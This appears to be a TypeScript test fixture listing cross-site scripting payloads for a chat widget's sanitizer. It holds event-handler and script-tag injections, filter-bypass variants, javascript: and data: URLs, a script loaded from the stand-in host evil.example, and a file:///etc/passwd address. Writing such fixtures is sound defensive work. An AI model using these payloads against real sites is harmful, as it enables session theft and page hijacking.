/** What an attacker would have the page run: each calls `pwned()` where markup, an address or an expression is taken at its word. */
const RUN = 'pwned()';

const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'details',
  'input',
  'select',
  'marquee',
  'math',
  'style',
  'link',
];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'];

const MARKUP = TAGS.flatMap((tag) =>
  HANDLERS.map((handler) => `<${tag} src=x href=x open autofocus ${handler}=${RUN}>`),
);

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'><svg/onload=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<math><mtext></p><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `[x](javascript:${RUN})`,
  `![x](x "onerror=${RUN}")`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<img src=x onerror=${RUN}\u0000>`,
  `<omotenashi-chat server="javascript:${RUN}"></omotenashi-chat>`,
];

/** Addresses that must never become a link or the source of a picture. */
export const HOSTILE_ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  'filesystem:http://example.com/x',
  'view-source:http://example.com',
  'about:blank',
];

export const HOSTILE_STRINGS: readonly string[] = [...MARKUP, ...SCRIPTS, ...HOSTILE_ADDRESSES];
